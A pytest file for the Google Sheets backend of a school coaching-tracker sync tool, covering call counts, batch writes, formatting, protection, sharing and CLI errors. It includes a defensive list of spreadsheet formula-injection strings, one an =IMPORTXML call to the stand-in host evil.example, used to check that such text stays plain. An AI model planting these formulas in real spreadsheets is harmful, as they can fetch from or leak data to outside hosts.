"""The Google backend through real gspread over loopback HTTP to the Google fake.

The shared backend contract suite (tests/test_backends.py) runs against Google too; here, the
Google-only promises: exact API call counts, one atomic batchUpdate, no write when nothing changed,
coach text never parsed, links, validation, protection, sharing, and a failing write that leaves
every tool tab as it was.
"""

from __future__ import annotations

import copy
import datetime as dt
import pickle

import pytest
from backend_support import METADATA, NO_WAIT, GoogleHarness, flags_tab, new_workbook, run_cli
from conftest import as_read, tiny_grids

from tracker_sync.backends.google.workbook import (
    GoogleWorkbook,
    google_client,
    open_google,
    spreadsheet_id_from,
)
from tracker_sync.errors import (
    ApiError,
    BackendError,
    ConfigError,
    TrackerNotFound,
    TrackerNotShared,
)
from tracker_sync.render.layout import Column, Index, Line, Table, layout_tabs
from tracker_sync.tabs import Area, ColorScale, ScaleRule, Style, ToolTab
from tracker_sync.testing.google_fake import Fault, GoogleFake


@pytest.fixture
def harness(fake, account):
    return GoogleHarness(fake, account)


@pytest.fixture
def tracker(harness, leap_template):
    harness.workbook.provision(leap_template, METADATA)
    harness.workbook.seed_rows({tab: grid[1:] for tab, grid in tiny_grids().items()})
    return harness


def calls(fake: GoogleFake) -> list[str]:
    return [f"{r.method} {r.path.rsplit('/', 1)[-1] if r.api == 'sheets' else r.path}" for r in fake.calls()]


# -- exact call counts --------------------------------------------------------------------------


def test_read_is_exactly_one_spreadsheets_get(tracker, leap_template):
    tracker.fake.clear_log()
    snapshot = tracker.workbook.read(leap_template.coach_tab_names)
    assert len(tracker.fake.calls()) == 1
    (request,) = tracker.fake.calls()
    assert request.method == "GET" and request.query["includeGridData"] == ["true"] and "fields" in request.query
    assert snapshot.grids["Observations"][1][0] == dt.date(2026, 9, 28)
    assert snapshot.grids["Roster"][1][7] == 1 and type(snapshot.grids["Roster"][1][7]) is int


def test_write_is_exactly_one_batch_update_after_a_read(tracker):
    tracker.workbook.read(["Roster"])
    tracker.fake.clear_log()
    tracker.workbook.write([flags_tab("x"), ToolTab("Summary", [["a"]]), ToolTab("Patterns", [["b"]]),
                            ToolTab("Sync Log", [["c"]])])
    assert [(r.method, r.path.endswith(":batchUpdate")) for r in tracker.fake.calls()] == [("POST", True)]


def test_sync_log_only_writes_are_never_skipped_and_keep_the_output_hash(tracker):
    """Two failure lines in a row (the district job's Sync Log note) must both land."""
    tracker.workbook.read([])
    assert tracker.workbook.write([flags_tab("out"), ToolTab("Sync Log", [["ok"]], volatile=True)]) == ["Flags", "Sync Log"]
    for line in ("failed 1", "failed 2"):
        tracker.workbook.read([])
        assert tracker.workbook.write([ToolTab("Sync Log", [[line]], volatile=True)]) == ["Sync Log"]
    assert tracker.workbook.read(["Sync Log"]).grids["Sync Log"] == [["failed 2"]]
    tracker.workbook.read([])  # the outputs are still the ones last written: no write needed
    assert tracker.workbook.write([flags_tab("out"), ToolTab("Sync Log", [["ok again"]], volatile=True)]) == []


def test_unchanged_outputs_are_not_written_again(tracker):
    tabs = [flags_tab("same"), ToolTab("Sync Log", [["run 1"]], volatile=True)]
    tracker.workbook.read([])
    assert tracker.workbook.write(tabs) == ["Flags", "Sync Log"]
    tracker.fake.clear_log()
    tracker.workbook.read([])
    only_the_log = [flags_tab("same"), ToolTab("Sync Log", [["run 2"]], volatile=True)]
    assert tracker.workbook.write(only_the_log) == []  # only the volatile log differs
    assert len(tracker.fake.calls()) == 1  # the read
    tracker.workbook.read([])
    changed = [flags_tab("changed"), ToolTab("Sync Log", [["run 3"]], volatile=True)]
    assert tracker.workbook.write(changed) == ["Flags", "Sync Log"]
    assert tracker.workbook.read(["Sync Log"]).grids["Sync Log"] == [["run 3"]]


def test_provision_of_a_new_spreadsheet_costs_two_sheets_calls_and_one_drive_call(fake, account, leap_template):
    fake.clear_log()
    workbook = new_workbook(fake, account)
    workbook.provision(leap_template, METADATA)
    assert calls(fake) == ["POST /drive/v3/files", f"GET {workbook.spreadsheet_id}",
                           f"POST {workbook.spreadsheet_id}:batchUpdate"]
    titles = [s.title for s in fake.spreadsheets[workbook.spreadsheet_id].sheets]
    assert titles == [*leap_template.coach_tab_names, *leap_template.tool_tab_names, "Instructions"]  # no stray Sheet1


# -- what lands in the sheet ---------------------------------------------------------------------

TRICKY = ["=IMPORTXML(\"http://evil.example\",\"//a\")", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=2+2", "=HYPERLINK(\"x\",\"y\")"]


def test_coach_text_that_looks_like_a_formula_stays_plain_text(tracker):
    tracker.workbook.seed_rows({"Action Steps": [[dt.date(2026, 9, 1), "Ana Lopez", "Ben Ross", text] for text in TRICKY]})
    grid = tracker.workbook.read(["Action Steps"]).grids["Action Steps"]
    typed = [row[3] for row in grid[-len(TRICKY):]]
    assert typed == TRICKY
    tracker.workbook.write([ToolTab("Flags", [["Value"], *[[value] for value in typed]])])
    cells = tracker.book.sheet(title="Flags").cells
    stored = [cells[(r, 0)]["userEnteredValue"] for r in range(1, len(TRICKY) + 1)]
    assert stored == [{"stringValue": text} for text in TRICKY]
    assert [row[0] for row in tracker.workbook.read(["Flags"]).grids["Flags"][1:]] == TRICKY


def test_links_become_hyperlink_formulas_to_the_tab_id(tracker):
    snapshot = tracker.workbook.read(["Observations"])
    tracker.workbook.write([flags_tab("x")])
    cell = tracker.book.sheet(title="Flags").cells[(1, 1)]
    gid = snapshot.tab_ids["Observations"]
    assert cell["userEnteredValue"] == {"formulaValue": f'=HYPERLINK("#gid={gid}&range=A3","Go to cell")'}


SCALE = ColorScale(((1, "F8696B"), (5, "FFEB84"), (7, "63BE7B")))


def test_heatmap_gets_a_number_anchored_color_scale_that_is_replaced_not_stacked(tracker):
    tab = ToolTab("Patterns", [["Team", "I.1"], ["A", 4.5], ["B", 2]], color_scales=(ScaleRule(Area(1, 1, 2, 1), SCALE),))
    tracker.workbook.write([tab])
    tracker.workbook.read([])
    tracker.workbook.write([ToolTab("Patterns", tab.rows + [["C", 3]], color_scales=(ScaleRule(Area(1, 1, 3, 1), SCALE),))])
    (rule,) = tracker.book.sheet(title="Patterns").conditional_formats
    assert rule["ranges"][0]["endRowIndex"] == 4
    gradient = rule["gradientRule"]
    assert [(p["type"], p["value"]) for p in (gradient["minpoint"], gradient["midpoint"], gradient["maxpoint"])] == [
        ("NUMBER", "1"), ("NUMBER", "5"), ("NUMBER", "7")]
    assert gradient["minpoint"]["color"] == {"red": round(0xF8 / 255, 4), "green": round(0x69 / 255, 4),
                                             "blue": round(0x6B / 255, 4)}


def test_layout_reaches_google_in_the_one_write(tracker):
    """Formats, wrapping, widths, heights, merges and the filter all go in the same single batchUpdate."""
    palette = (Style(), Style(bold=True, fill="D9E1F2", wrap=True), Style(number_format="0%"))
    tab = ToolTab("Flags", [["A long title that spans", None, None], ["Who", "Share", "Note"], ["Ana", 0.25, "x"]],
                  styles=[[1, 1, 1], [1, 1, 1], [0, 2, 0]], palette=palette, column_widths=[12, 8, 30],
                  row_heights=[30.0, None, None], merges=(Area(0, 0, 1, 3),), filter=Area(1, 0, 2, 3))
    tracker.workbook.read([])
    tracker.fake.clear_log()
    tracker.workbook.write([tab])
    assert sheets_calls(tracker.fake) == ["batchUpdate"]
    sheet = tracker.book.sheet(title="Flags")
    assert sheet.merges == [{"sheetId": sheet.id, "startRowIndex": 0, "endRowIndex": 1,
                             "startColumnIndex": 0, "endColumnIndex": 3}]
    assert sheet.basic_filter == {"range": {"sheetId": sheet.id, "startRowIndex": 1, "endRowIndex": 3,
                                            "startColumnIndex": 0, "endColumnIndex": 3}}
    assert [sheet.column_pixels[c] for c in range(3)] == [12 * 7 + 5, 8 * 7 + 5, 30 * 7 + 5]
    assert (sheet.row_pixels[0], sheet.row_pixels[1]) == (40, 21)  # 30 points at 96 dpi; the default row
    header = sheet.cells[(1, 0)]["userEnteredFormat"]
    assert header["wrapStrategy"] == "WRAP" and header["textFormat"] == {"bold": True}
    assert sheet.cells[(2, 1)]["userEnteredFormat"]["numberFormat"] == {"type": "PERCENT", "pattern": "0%"}
    tracker.workbook.read([])
    tracker.workbook.write([ToolTab("Flags", [["plain"]])])  # the next write unmerges what it no longer merges
    assert tracker.book.sheet(title="Flags").merges == []


def test_an_index_and_a_list_tab_of_its_own_reach_google_in_the_one_write(tracker):
    """The index links to rows of its own tab; a list too long for a printed page moves to a tab the same
    batch adds, whose id the link to it already carries, with its title and header frozen (Google prints
    frozen rows on every page)."""
    people = [[f"Teacher {i}", i] for i in range(200)]
    listed_table = Table([Column("Teacher"), Column("Days", "int")], people, title="Not seen", list_tab="Not seen")
    tabs = layout_tabs("Patterns", [Line("Patterns", "title"), Index(), Line("Who needs attention?", "heading"), listed_table])
    assert [tab.name for tab in tabs] == ["Patterns", "Patterns - Not seen"]
    tracker.workbook.read([])
    tracker.fake.clear_log()
    tracker.workbook.write(tabs)
    assert sheets_calls(tracker.fake) == ["batchUpdate"]
    patterns, listed = tracker.book.sheet(title="Patterns"), tracker.book.sheet(title="Patterns - Not seen")
    formulas = {at: cell["userEnteredValue"]["formulaValue"] for at, cell in patterns.cells.items()
                if "formulaValue" in cell.get("userEnteredValue", {})}
    grid = tracker.workbook.read(["Patterns", "Patterns - Not seen"]).grids
    rows = grid["Patterns"]
    heading, title = (max(r for r, row in enumerate(rows) if row == [text]) for text in ("Who needs attention?", "Not seen"))
    assert set(formulas.values()) == {
        f'=HYPERLINK("#gid={patterns.id}&range=A{heading + 1}","Who needs attention?")',
        f'=HYPERLINK("#gid={patterns.id}&range=A{title + 1}","Not seen")',
        f'=HYPERLINK("#gid={listed.id}&range=A1","The first 5 of 200 rows. '
        f'All of them are on the tab \'Patterns - Not seen\' (click here).")'}
    assert listed.properties["gridProperties"]["frozenRowCount"] == 3
    assert grid["Patterns - Not seen"][2:] == [["Teacher", "Days"], *people]


def test_tool_tabs_shrink_to_their_content(tracker):
    tracker.workbook.write([ToolTab("Summary", [[i] for i in range(50)], frozen_rows=1)])
    tracker.workbook.write([ToolTab("Summary", [["one"], ["two"]], column_widths=[30, 10])])
    sheet = tracker.book.sheet(title="Summary")
    assert (sheet.rows, sheet.columns) == (2, 2)
    assert tracker.workbook.read(["Summary"]).grids["Summary"] == [["one"], ["two"]]


def test_provision_sets_dropdowns_frozen_headers_widths_and_protection(tracker, leap_template):
    book = tracker.book
    observations = book.sheet(title="Observations")
    assert observations.properties["gridProperties"]["frozenRowCount"] == 1
    kinds = {c: observations.cells[(1, c)].get("dataValidation", {}).get("condition", {}).get("type") for c in range(8)}
    assert kinds[0] == "DATE_IS_VALID" and kinds[1] == "ONE_OF_RANGE" and kinds[3] == "ONE_OF_LIST"
    scores = book.sheet(title="LEAP Scores")
    assert scores.cells[(5, 4)]["dataValidation"]["condition"] == {
        "type": "NUMBER_BETWEEN", "values": [{"userEnteredValue": "1"}, {"userEnteredValue": "7"}]}
    assert observations.column_pixels[5] == 48 * 7 + 5
    for name in [*leap_template.tool_tab_names, "Instructions"]:
        (protected,) = book.sheet(title=name).protected_ranges
        assert protected["editors"]["users"] == ["tracker-sync@fake-project.iam.gserviceaccount.com"]
    assert all(not book.sheet(title=name).protected_ranges for name in leap_template.coach_tab_names)


def test_failed_write_after_retries_is_a_clear_error_and_changes_nothing(tracker):
    tracker.workbook.write([flags_tab("old")])
    before = copy.deepcopy(tracker.book)
    tracker.fake.script(Fault.http(429, retry_after=0, match=":batchUpdate"), Fault.reset(match=":batchUpdate"),
                        Fault.http(500, match=":batchUpdate"))
    tracker.fake.clear_log()
    with pytest.raises(ApiError, match="gave up after 3 attempt"):
        tracker.workbook.write([flags_tab("new")])
    faults = [(r.method, r.fault) for r in tracker.fake.calls()]
    assert faults == [("GET", ""), ("POST", "status"), ("POST", "reset"), ("POST", "status")]  # no read before: +1 GET
    assert pickle.dumps(tracker.book) == pickle.dumps(before)


def test_an_invalid_request_applies_nothing_of_the_batch(tracker, monkeypatch):
    tracker.workbook.write([flags_tab("old")])
    tracker.workbook.read([])
    # as if a bug let it through:
    monkeypatch.setattr("tracker_sync.backends.google.values.within_cell_limit", lambda text, limit=0: text)
    bad = ToolTab("Summary", [["x" * 50_001]])  # Google refuses cells over 50,000 characters
    with pytest.raises(BackendError) as caught:
        tracker.workbook.write([flags_tab("new"), bad])
    assert caught.value.code == 400
    assert tracker.workbook.read(["Flags"]).grids["Flags"][1][2] == "old"


def test_share_makes_one_drive_call_per_person_and_never_a_link(tracker):
    tracker.fake.add_person("lead@school.org")  # has a Google account: no invitation email needed
    tracker.fake.clear_log()
    tracker.workbook.share("lead@school.org", "writer", notify=False)
    tracker.workbook.share("viewer@school.org", "reader")
    permissions = tracker.fake.files[tracker.workbook.spreadsheet_id].permissions
    assert [(p["emailAddress"], p["role"], p["type"], p["sendNotificationEmail"]) for p in permissions] == [
        ("lead@school.org", "writer", "user", "false"), ("viewer@school.org", "reader", "user", "true")]
    assert len(tracker.fake.calls("drive")) == 2
    with pytest.raises(ConfigError):
        tracker.workbook.share("x@y.org", "owner")


@pytest.mark.parametrize("location", [
    "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789-_abcd",
    "https://docs.google.com/spreadsheets/d/1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789-_abcd/edit#gid=0",
])
def test_spreadsheet_ids_and_urls_are_accepted(location):
    assert spreadsheet_id_from(location) == "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789-_abcd"


def test_a_missing_spreadsheet_is_tracker_not_found(fake, account):
    workbook = open_google("1" + "x" * 40, service_account_info=account, api_base=fake.base_url)
    with pytest.raises(TrackerNotFound, match=f"visible to {account['client_email']} \\(share it with that account"):
        workbook.read(["Roster"])


def test_not_a_location_is_a_config_error():
    with pytest.raises(ConfigError, match="Google Sheets URL"):
        spreadsheet_id_from("lincoln.csv")


# -- the whole pipeline on the demo school ---------------------------------------------------------

NOW = dt.datetime(2026, 12, 18, 21, 0, tzinfo=dt.UTC)


@pytest.fixture(scope="module")
def demo_school():
    from tracker_sync.synthetic.school import synthetic_school

    return synthetic_school(7)


def sheets_calls(fake: GoogleFake) -> list[str]:
    return [("GET" if r.method == "GET" else "batchUpdate") for r in fake.calls("sheets")]


def test_demo_school_syncs_the_same_on_xlsx_and_google(fake, account, demo_school, tmp_path):
    from tracker_sync.backends.xlsx.workbook import XlsxWorkbook
    from tracker_sync.check import SYNC_LOG
    from tracker_sync.sync import sync_tracker
    from tracker_sync.synthetic.demo import provision_school

    xlsx = XlsxWorkbook(tmp_path / "demo.xlsx")
    provision_school(xlsx, demo_school)
    sync_tracker(xlsx, as_of=demo_school.as_of, now=NOW)

    google = new_workbook(fake, account, demo_school.name)
    provision_school(google, demo_school)
    fake.clear_log()
    sync_tracker(google, as_of=demo_school.as_of, now=NOW)
    assert sheets_calls(fake) == ["GET", "batchUpdate"]

    tool_tabs = ["Summary", "Patterns", "Flags", SYNC_LOG]
    on_file, on_google = xlsx.read(tool_tabs).grids, google.read(tool_tabs).grids
    duration = [as_read(header) for header in on_file[SYNC_LOG][0]].index("Duration (s)")
    for grids in (on_file, on_google):  # the one cell that measures wall-clock time
        grids[SYNC_LOG] = [row[:duration] + row[duration + 1:] for row in grids[SYNC_LOG]]
    for tab in tool_tabs:
        assert on_google[tab] == on_file[tab], tab
    assert len(on_google["Flags"]) > 10
    # ... and the same layout: widths, merges, the heat map's number-anchored scale, the Flags filter
    import openpyxl
    from openpyxl.utils import get_column_letter, range_boundaries

    book = openpyxl.load_workbook(xlsx.path)
    for tab in tool_tabs:
        sheet, stored = book[tab], fake.spreadsheets[google.spreadsheet_id].sheet(title=tab)
        widths = [sheet.column_dimensions[get_column_letter(c + 1)].width for c in range(stored.columns)]
        assert [stored.column_pixels[c] for c in range(stored.columns)] == [round(w * 7 + 5) for w in widths], tab
        merged = sorted(str(r) for r in sheet.merged_cells.ranges)
        assert merged == sorted(f"{get_column_letter(m['startColumnIndex'] + 1)}{m['startRowIndex'] + 1}:"
                                f"{get_column_letter(m['endColumnIndex'])}{m['endRowIndex']}" for m in stored.merges), tab
    file_scales = {str(cf.sqref): [float(v.val) for v in cf.rules[0].colorScale.cfvo]
                   for cf in book["Patterns"].conditional_formatting}
    google_scales = {}
    for rule in fake.spreadsheets[google.spreadsheet_id].sheet(title="Patterns").conditional_formats:
        area, gradient = rule["ranges"][0], rule["gradientRule"]
        ref = (f"{get_column_letter(area['startColumnIndex'] + 1)}{area['startRowIndex'] + 1}:"
               f"{get_column_letter(area['endColumnIndex'])}{area['endRowIndex']}")
        google_scales[ref] = [float(gradient[k]["value"]) for k in ("minpoint", "midpoint", "maxpoint")]
    assert google_scales == file_scales and set(map(tuple, file_scales.values())) == {(1.0, 5.0, 7.0)}
    flags_filter = fake.spreadsheets[google.spreadsheet_id].sheet(title="Flags").basic_filter["range"]
    c0, r0, c1, r1 = range_boundaries(book["Flags"].auto_filter.ref)
    assert (flags_filter["startRowIndex"], flags_filter["endRowIndex"],
            flags_filter["startColumnIndex"], flags_filter["endColumnIndex"]) == (
        r0 - 1, r1, c0 - 1, c1)


def test_resync_unchanged_is_one_call_and_a_faulty_sync_recovers(fake, account, demo_school):
    from tracker_sync.sync import sync_tracker
    from tracker_sync.synthetic.demo import provision_school

    google = new_workbook(fake, account, demo_school.name)
    provision_school(google, demo_school)
    sync_tracker(google, as_of=demo_school.as_of, now=NOW)

    fake.clear_log()
    unchanged = sync_tracker(google, as_of=demo_school.as_of, now=NOW + dt.timedelta(minutes=15))
    assert sheets_calls(fake) == ["GET"]
    assert unchanged.outcome == "unchanged" and unchanged.tabs_written == []

    fake.clear_log()
    fake.script(Fault.http(429, retry_after=0, match="GET"), Fault.reset(match=":batchUpdate"))
    sync_tracker(google, as_of=demo_school.as_of + dt.timedelta(days=1), now=NOW + dt.timedelta(days=1))
    assert [(r.method, r.status) for r in fake.calls("sheets")] == [("GET", 429), ("GET", 200), ("POST", 0), ("POST", 200)]
    assert google.read(["Summary"]).grids["Summary"][1][0].startswith(f"As of {demo_school.as_of + dt.timedelta(days=1)}")


# -- the command line against the fake ------------------------------------------------------------


def test_cli_provisions_shares_records_and_reruns_as_a_repair(fake, cli_env, shared_drive):
    import json
    import tomllib

    registry = cli_env / "district.toml"
    fake.add_person("principal@lincoln.org", "ana@lincoln.org", "board@district.org")  # Google accounts: no invitation needed
    args = ["provision", "--school", "Lincoln Elementary", "--backend", "google", "--registry", str(registry),
            "--folder", shared_drive, "--leader", "principal@lincoln.org", "--coach", "ana@lincoln.org",
            "--viewer", "board@district.org", "--no-notify", "--json"]
    fake.clear_log()
    first = run_cli(*args)
    assert first.exit_code == 0, first.output
    result = json.loads(first.output)
    assert result["created"] is True
    assert [(r.api, r.method) for r in fake.calls()] == [  # search, create, read, batchUpdate, 3 shares
        ("drive", "GET"), ("drive", "POST"), ("sheets", "GET"), ("sheets", "POST"), *[("drive", "POST")] * 3]
    spreadsheet_id = spreadsheet_id_from(result["tracker"])
    entry = tomllib.loads(registry.read_text())["schools"]["Lincoln Elementary"]
    assert entry == {"backend": "google", "location": result["tracker"], "rubric": "leap"}
    roles = {p["emailAddress"]: p["role"] for p in fake.files[spreadsheet_id].permissions}
    assert roles == {"principal@lincoln.org": "writer", "ana@lincoln.org": "writer", "board@district.org": "reader"}
    assert all(p["type"] == "user" for p in fake.files[spreadsheet_id].permissions)

    fake.spreadsheets[spreadsheet_id].sheets.pop()  # someone deleted the Instructions tab
    spreadsheets_before = len(fake.spreadsheets)
    fake.clear_log()
    again = run_cli(*args[:9], "--json")
    assert again.exit_code == 0, again.output
    assert json.loads(again.output)["created"] is False
    assert len(fake.spreadsheets) == spreadsheets_before
    assert [r.api for r in fake.calls()] == ["sheets", "sheets"]  # one read, one batchUpdate
    assert fake.spreadsheets[spreadsheet_id].sheets[-1].title == "Instructions"


def test_provision_without_a_registry_finds_its_own_spreadsheet_instead_of_making_another(fake, account, shared_drive):
    from tracker_sync.provision.google import provision_google_school

    http = google_client(service_account_info=account, api_base=fake.base_url, retry=NO_WAIT)
    first = provision_google_school("Juniper Hills School", folder=shared_drive, http=http, today=dt.date(2026, 9, 1))
    count = len(fake.spreadsheets)
    again = provision_google_school("Juniper Hills School", folder=shared_drive, http=http, today=dt.date(2027, 9, 1))
    assert (first.created, again.created, again.tracker) == (True, False, first.tracker)
    assert len(fake.spreadsheets) == count
    metadata = GoogleWorkbook(spreadsheet_id_from(first.tracker), http).read([]).metadata
    assert metadata["school_year_start"] == "2026-07-01"  # the school's own setup is kept on a repair


def test_cli_syncs_and_validates_by_url_and_id(fake, account, cli_env, tiny_settings, leap_template):
    import json

    from tracker_sync.metadata import to_metadata

    workbook = new_workbook(fake, account)
    workbook.provision(leap_template, to_metadata(tiny_settings))
    workbook.seed_rows({tab: grid[1:] for tab, grid in tiny_grids().items()})
    fake.clear_log()
    synced = run_cli("sync", workbook.location, "--as-of", "2026-09-30", "--json")
    assert synced.exit_code == 0, synced.output
    assert json.loads(synced.output)["tabs_written"] == ["Summary", "Patterns", "Flags", "Plan", "Sync Log"]
    assert len(fake.calls("sheets")) == 2
    checked = run_cli("validate", workbook.spreadsheet_id, "--as-of", "2026-09-30", "--json")
    assert checked.exit_code == 0, checked.output
    assert json.loads(checked.output)["school"] == "Tiny School"


def test_a_spreadsheet_not_shared_with_the_service_account_exits_3_naming_the_account(fake, account, cli_env, leap_template,
                                                                                      tiny_settings):
    """Google answers 403 for a spreadsheet that exists but is not shared (the fake too): one line, exit 3."""
    from tracker_sync.backends.google.auth import load_credentials
    from tracker_sync.metadata import to_metadata

    principal = load_credentials(info=fake.authorized_user_info("principal@lincoln.org"))  # a person, in their own Drive
    theirs = GoogleWorkbook.create("Lincoln's own tracker", google_client(credentials=principal, api_base=fake.base_url))
    theirs.provision(leap_template, to_metadata(tiny_settings))
    email = account["client_email"]
    for command in ("sync", "validate"):
        result = run_cli(command, theirs.location)
        assert result.exit_code == 3, result.output
        assert result.stderr.strip().splitlines() == [
            f"Error: The spreadsheet {theirs.spreadsheet_id} exists but {email} may not open or change it (Google: The caller "
            f"does not have permission): share the spreadsheet with {email} as an editor."]
    theirs.share(email, "reader")  # readable now, but the sync's write is refused the same way
    assert run_cli("validate", theirs.location).exit_code == 0
    written = run_cli("sync", theirs.location, "--as-of", "2026-09-30")
    assert written.exit_code == 3 and "as an editor" in written.stderr
    with pytest.raises(TrackerNotShared):
        GoogleWorkbook(theirs.spreadsheet_id,
                       google_client(service_account_info=account, api_base=fake.base_url)).write([flags_tab("x")])


def test_the_api_base_override_only_accepts_loopback(account, monkeypatch):
    monkeypatch.setenv("TRACKER_SYNC_GOOGLE_API_BASE", "https://evil.example.com")
    with pytest.raises(ConfigError, match="loopback"):
        google_client(service_account_info=account)
